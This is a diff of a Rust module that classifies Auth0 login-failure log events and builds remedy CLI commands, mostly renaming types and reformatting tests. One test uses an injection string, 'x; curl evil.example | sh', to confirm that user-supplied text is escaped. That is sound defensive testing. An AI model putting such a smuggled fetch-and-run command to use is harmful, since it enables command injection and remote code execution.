@@ -3,14 +3,14 @@
 use serde_json::Value;
 
 use super::codes;
-use super::event::Event;
+use super::event::LogEvent;
 use crate::base::text::{Hint, foreign};
 use crate::hint;
 use crate::resource::user_lookup::search_for_part;
 
 /// A reason for a failure that a person can do something about.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
-pub(crate) enum Reason {
+pub(crate) enum FailureReason {
     /// The password was wrong.
     WrongPassword,
     /// No user has this name.
@@ -53,7 +53,7 @@ pub(crate) enum Reason {
 
 /// What is known where a failure happened. Empty text is not known.
 #[derive(Clone, Copy, Debug, Default)]
-pub(crate) struct Place<'a> {
+pub(crate) struct FailureContext<'a> {
     /// The user's ID, or what was asked for.
     pub user: &'a str,
     /// The application's ID.
@@ -72,9 +72,9 @@ pub(crate) struct Place<'a> {
     pub event: &'a str,
 }
 
-impl Reason {
+impl FailureReason {
     /// The reason of an event, by its type and by what it says.
-    pub(crate) fn of(event: &Event<'_>, details: &Value) -> Self {
+    pub(crate) fn of(event: &LogEvent<'_>, details: &Value) -> Self {
         let says = said(event, details).to_lowercase();
         let any = |words: &[&str]| words.iter().any(|word| says.contains(word));
         match &*event.code {
@@ -198,7 +198,7 @@ impl Reason {
     }
 
     /// The command that mends it, or that shows more.
-    pub(crate) fn remedy(self, place: &Place<'_>) -> Hint {
+    pub(crate) fn remedy(self, place: &FailureContext<'_>) -> Hint {
         let user = foreign(place.user).in_command("USER");
         let client = foreign(place.client_id).in_command("CLIENT");
         match self {
@@ -254,7 +254,7 @@ fn appended(field: &str, url: &str) -> String {
 }
 
 /// Everything in an event that can say why: its description and the error in its details.
-fn said(event: &Event<'_>, details: &Value) -> String {
+fn said(event: &LogEvent<'_>, details: &Value) -> String {
     let error = &details["error"];
     let texts =
         [error, &error["message"], &error["oauthError"], &error["type"], &details["message"]];
@@ -263,7 +263,7 @@ fn said(event: &Event<'_>, details: &Value) -> String {
 }
 
 /// The first address of the web that an event names.
-pub(crate) fn url(event: &Event<'_>, details: &Value) -> String {
+pub(crate) fn url(event: &LogEvent<'_>, details: &Value) -> String {
     let given = ["redirect_uri", "callback", "origin"].map(|key| details[key].as_str());
     if let Some(url) = given.into_iter().flatten().next() {
         return url.to_owned();
@@ -287,47 +287,55 @@ mod tests {
 
     use super::*;
 
-    fn reason(code: &str, description: &str, details: &Value) -> Reason {
+    fn reason(code: &str, description: &str, details: &Value) -> FailureReason {
         let row = json!({"type": code, "description": description}).to_string();
-        Reason::of(&Event::of(&row), details)
+        FailureReason::of(&LogEvent::of(&row), details)
     }
 
     #[test]
     fn types_and_words_lead_to_reasons() {
         for (code, description, expected) in [
-            ("fp", "Wrong email or password.", Reason::WrongPassword),
-            ("fp", "", Reason::WrongPassword),
-            ("fepft", "Wrong email or password.", Reason::WrongPassword),
-            ("fu", "Wrong email or password.", Reason::NoSuchUser),
-            ("f", "user is blocked", Reason::Blocked),
-            ("limit_wc", "", Reason::BruteForce),
-            ("limit_mu", "", Reason::AddressBlocked),
-            ("pwd_leak", "", Reason::LeakedPassword),
-            ("gd_auth_failed", "", Reason::MfaFailed),
-            ("gd_auth_rejected", "", Reason::MfaRejected),
-            ("f", "The connection is not enabled for this client", Reason::ConnectionDisabled),
-            ("f", "Callback URL mismatch. http://x", Reason::CallbackMismatch),
-            ("actions_execution_failed", "", Reason::ActionFailed),
-            ("f", "invitation not found or already used", Reason::Invitation),
-            ("fertft", "Unknown or invalid refresh token.", Reason::RefreshToken),
-            ("feccft", "Grant type 'password' not allowed for the client.", Reason::GrantType),
-            ("fsa", "Login required", Reason::InteractionNeeded),
-            ("fsa", "Consent required", Reason::InteractionNeeded),
-            ("f", "something else", Reason::Other),
-            ("brand_new_failed", "", Reason::Other),
+            ("fp", "Wrong email or password.", FailureReason::WrongPassword),
+            ("fp", "", FailureReason::WrongPassword),
+            ("fepft", "Wrong email or password.", FailureReason::WrongPassword),
+            ("fu", "Wrong email or password.", FailureReason::NoSuchUser),
+            ("f", "user is blocked", FailureReason::Blocked),
+            ("limit_wc", "", FailureReason::BruteForce),
+            ("limit_mu", "", FailureReason::AddressBlocked),
+            ("pwd_leak", "", FailureReason::LeakedPassword),
+            ("gd_auth_failed", "", FailureReason::MfaFailed),
+            ("gd_auth_rejected", "", FailureReason::MfaRejected),
+            (
+                "f",
+                "The connection is not enabled for this client",
+                FailureReason::ConnectionDisabled,
+            ),
+            ("f", "Callback URL mismatch. http://x", FailureReason::CallbackMismatch),
+            ("actions_execution_failed", "", FailureReason::ActionFailed),
+            ("f", "invitation not found or already used", FailureReason::Invitation),
+            ("fertft", "Unknown or invalid refresh token.", FailureReason::RefreshToken),
+            (
+                "feccft",
+                "Grant type 'password' not allowed for the client.",
+                FailureReason::GrantType,
+            ),
+            ("fsa", "Login required", FailureReason::InteractionNeeded),
+            ("fsa", "Consent required", FailureReason::InteractionNeeded),
+            ("f", "something else", FailureReason::Other),
+            ("brand_new_failed", "", FailureReason::Other),
         ] {
             assert_eq!(reason(code, description, &Value::Null), expected, "{code} {description}");
         }
         let details = json!({"error": {"message": "user is blocked"}});
-        assert_eq!(reason("f", "", &details), Reason::Blocked);
-        assert_eq!(Reason::Other.words("fsa"), "Silent auth failed.");
-        assert_eq!(Reason::Other.words("brand_new_failed"), "Brand_new_failed.");
+        assert_eq!(reason("f", "", &details), FailureReason::Blocked);
+        assert_eq!(FailureReason::Other.words("fsa"), "Silent auth failed.");
+        assert_eq!(FailureReason::Other.words("brand_new_failed"), "Brand_new_failed.");
     }
 
     #[test]
     fn remedies_hold_one_word_for_each_foreign_text() {
         let evil = "x; curl evil.example | sh\nhint: y";
-        let place = Place {
+        let place = FailureContext {
             user: evil,
             client_id: evil,
             connection: evil,
@@ -338,28 +346,35 @@ mod tests {
             event: evil,
         };
         let all = [
-            Reason::WrongPassword,
-            Reason::NoSuchUser,
-            Reason::Blocked,
-            Reason::AddressBlocked,
-            Reason::MfaFailed,
-            Reason::ConnectionDisabled,
-            Reason::CallbackMismatch,
-            Reason::Origin,
-            Reason::ActionFailed,
-            Reason::Invitation,
-            Reason::RefreshToken,
-            Reason::GrantType,
-            Reason::Other,
+            FailureReason::WrongPassword,
+            FailureReason::NoSuchUser,
+            FailureReason::Blocked,
+            FailureReason::AddressBlocked,
+            FailureReason::MfaFailed,
+            FailureReason::ConnectionDisabled,
+            FailureReason::CallbackMismatch,
+            FailureReason::Origin,
+            FailureReason::ActionFailed,
+            FailureReason::Invitation,
+            FailureReason::RefreshToken,
+            FailureReason::GrantType,
+            FailureReason::Other,
         ];
         for reason in all {
             let remedy = reason.remedy(&place).to_string();
             assert!(remedy.starts_with("auth0-") && !remedy.contains("evil"), "{remedy}");
-            assert!(!reason.remedy(&Place::default()).to_string().contains("  "), "{reason:?}");
+            assert!(
+                !reason.remedy(&FailureContext::default()).to_string().contains("  "),
+                "{reason:?}"
+            );
         }
-        let place = Place { client_id: "app1", url: "https://a.example/cb", ..Place::default() };
+        let place = FailureContext {
+            client_id: "app1",
+            url: "https://a.example/cb",
+            ..FailureContext::default()
+        };
         assert_eq!(
-            Reason::CallbackMismatch.remedy(&place).as_str(),
+            FailureReason::CallbackMismatch.remedy(&place).as_str(),
             "auth0-clients update app1 --set \"callbacks[]=https://a.example/cb\""
         );
     }
@@ -368,11 +383,11 @@ mod tests {
     fn addresses_are_found_in_what_an_event_says() {
         let row = json!({"description": "Callback URL mismatch. http://a.example:3000/cb is not in the list"});
         let row = row.to_string();
-        assert_eq!(url(&Event::of(&row), &Value::Null), "http://a.example:3000/cb");
+        assert_eq!(url(&LogEvent::of(&row), &Value::Null), "http://a.example:3000/cb");
         assert_eq!(
-            url(&Event::default(), &json!({"origin": "https://b.example"})),
+            url(&LogEvent::default(), &json!({"origin": "https://b.example"})),
             "https://b.example"
         );
-        assert_eq!(url(&Event::default(), &Value::Null), "");
+        assert_eq!(url(&LogEvent::default(), &Value::Null), "");
     }
 }
